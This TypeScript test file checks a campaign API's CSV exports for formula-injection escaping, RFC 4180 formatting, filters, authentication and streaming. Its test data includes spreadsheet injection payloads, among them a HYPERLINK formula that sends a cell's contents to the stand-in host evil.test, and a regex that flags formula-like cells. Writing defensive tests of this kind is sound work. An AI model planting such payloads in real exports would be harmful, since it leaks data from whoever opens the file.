import { parse } from 'csv-parse/sync';
import { startTestApi, type TestApi } from '../../../../test/harness/api.js';
import {
  makeCampaign,
  makeContactPoint,
  makeCustomer,
  makeEnrolment,
  makeMessage,
  testNow,
  type MadeCampaign,
} from '../../../../test/harness/factories.js';
import { waitFor } from '../../../../test/harness/wait-for.js';
import { query } from '../../../../libs/persistence/sql.js';

let api: TestApi;
let campaign: MadeCampaign;
beforeAll(async () => {
  api = await startTestApi();
});
afterAll(() => api.close());
beforeEach(async () => {
  campaign = await makeCampaign(api.em());
});

interface Row extends Readonly<Record<string, string>> {
  readonly name: string;
}
const read = (csv: string): Row[] => parse(csv, { columns: true });

/** A customer with this name and number, one enrolment and one message. */
async function enrol(name: string | null, externalId?: string): Promise<void> {
  const customer = await makeCustomer(api.em(), { name, ...(externalId !== undefined && { externalId }) });
  const point = await makeContactPoint(api.em(), customer.id, 'email');
  const enrolment = await makeEnrolment(api.em(), campaign, customer.id, { keptRevenue: -1_200, retained: true, triggerScore: 0.71 });
  await makeMessage(api.em(), enrolment, point, { state: 'delivered', submittedAt: testNow, errorCode: null });
}

const files = ['messages', 'enrolments'] as const;
const get = (file: string) => api.request<string>('GET', `/v1/campaigns/${campaign.key}/${file}.csv`);

describe('a name that is a formula, in a CSV export', () => {
  const formulas = [
    '=HYPERLINK("http://evil.test/?"&A1,"click")',
    '+1+1',
    '-1+1',
    '@SUM(A1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    ' =1+1',
    '\u00a0\u2003+1',
    '\u200b\ufeff=1',
    '＝1+1',
    '＋1',
    '－1',
    '＠A1',
    '　＝1',
  ];

  it.each(files)('is a text in %s: no cell of the file begins like a formula', async (file) => {
    for (const formula of formulas) await enrol(formula, `${formula} ${campaign.key}`);
    const rows = read((await get(file)).body);
    const onOneLine = formulas.map((formula) => `'${formula.replace(/[\t\r\n]/, ' ')}`);
    expect(rows.map(({ name }) => name).sort()).toEqual(onOneLine.sort());
    expect(rows.map((row) => row['externalId']).sort()).toEqual(onOneLine.map((formula) => `${formula} ${campaign.key}`).sort());
    // For everything that a spreadsheet trims: only a number may begin with a sign.
    const suspicious = rows.flatMap((row) => Object.values(row)).filter((cell) => /^[\s\p{Z}\p{C}]*[-=+@＝＋－＠]/u.test(cell));
    expect(suspicious.filter((cell) => !/^-?\d+(\.\d+)?$/.test(cell))).toEqual([]);
  });

  it.each(['Ada Berg', 'Anne-Marie O’Neill', '李雷', 'a=b', 'Smith, "Bob"', 'x + y', "'quoted"])('does not change %j', async (name) => {
    await enrol(name);
    expect(read((await get('messages')).body)).toMatchObject([{ name }]);
  });

  it.each([
    ['two\nlines', 'two lines'],
    ['Ada\r\n=1+1', 'Ada =1+1'],
    ['Ada;=1+1', "Ada;'=1+1"],
  ])('adds no row or cell, however the file is read: %j', async (name, shown) => {
    await enrol(name);
    const { body } = await get('messages');
    expect(body.trimEnd().split(/\r\n|[\n\r]/)).toHaveLength(2);
    expect(read(body)).toMatchObject([{ name: shown }]);
  });
});

describe('an export', () => {
  it('is RFC 4180 with a header, as a download, with plain numbers', async () => {
    await enrol('Ada, Berg', `one of ${campaign.key}`);
    await enrol(null, `two of ${campaign.key}`);
    const { status, headers, body } = await get('enrolments');
    expect(status).toBe(200);
    expect(headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
    expect(headers.get('content-disposition')).toBe(`attachment; filename="${campaign.key}-enrolments.csv"`);
    expect(headers.get('cache-control')).toBe('private, no-store');
    const lines = body.split('\r\n');
    expect(lines[0]).toMatch(/^id,customerId,externalId,name,version,arm,state,/);
    expect(lines).toHaveLength(4);
    expect(lines[1]).toContain(`one of ${campaign.key},"Ada, Berg",1,treated,entered,`);
    expect(lines[1]).toContain(`,${testNow.toISOString()},`);
    expect(lines[1]).toMatch(/,true,-1200$/);
    expect(read(body)[1]).toMatchObject({ name: '', outcome: '', triggerScore: '0.71' });
  });

  it('has a header even without rows', async () => {
    expect((await get('messages')).body).toMatch(/^id,enrolmentId,customerId,externalId,name,[\w,]+\r\n$/);
  });

  it('has the same filters and refusals as the list', async () => {
    await enrol('Ada');
    const count = async (search: string) =>
      read((await api.request<string>('GET', `/v1/campaigns/${campaign.key}/messages.csv?${search}`)).body).length;
    expect(await count('state=delivered&channel=email')).toBe(1);
    expect(await count('state=planned')).toBe(0);
    expect(await api.request('GET', `/v1/campaigns/${campaign.key}/messages.csv?state=lost`)).toMatchObject({ status: 400 });
    expect(await api.request('GET', '/v1/campaigns/nobody/messages.csv')).toMatchObject({ status: 404 });
  });

  it('needs a key', async () => {
    expect(await api.request('GET', `/v1/campaigns/${campaign.key}/messages.csv`, { key: null })).toMatchObject({ status: 401 });
  });

  it('streams thirty thousand rows as they are read, and releases the database when the reader leaves', async () => {
    await enrol('Ada');
    await query(
      api.em(),
      `insert into message (id, enrolment_id, campaign_id, customer_id, contact_point_id, step, occurrence, channel, purpose, template, state,
         not_before, send_before, planned_at)
       select uuidv7(), enrolment_id, campaign_id, customer_id, contact_point_id, 'more', n, channel, purpose, template, state, not_before, send_before, planned_at
       from message, generate_series(1, 30000) n where campaign_id = $1`,
      [campaign.id],
    );
    const response = await fetch(`${api.url}/v1/campaigns/${campaign.key}/messages.csv`, {
      headers: { authorization: `Bearer ${api.key}` },
    });
    let bytes = 0;
    let lines = 0;
    for await (const piece of (response.body ?? []) as AsyncIterable<Uint8Array>) {
      bytes += piece.length;
      lines += piece.filter((byte) => byte === 10).length;
    }
    expect(lines).toBe(30_002);
    expect(bytes).toBeGreaterThan(6_000_000);

    for (let time = 0; time < 3; time++) {
      const leaving = new AbortController();
      const half = await fetch(`${api.url}/v1/campaigns/${campaign.key}/messages.csv`, {
        headers: { authorization: `Bearer ${api.key}` },
        signal: leaving.signal,
      });
      await half.body?.getReader().read();
      leaving.abort();
    }
    const reading = () =>
      query(api.em(), `select 1 from pg_stat_activity where datname = current_database() and state like 'idle in transaction%'`);
    await waitFor(async () => (await reading()).length === 0);
    expect((await get('enrolments')).status).toBe(200);
  });
});
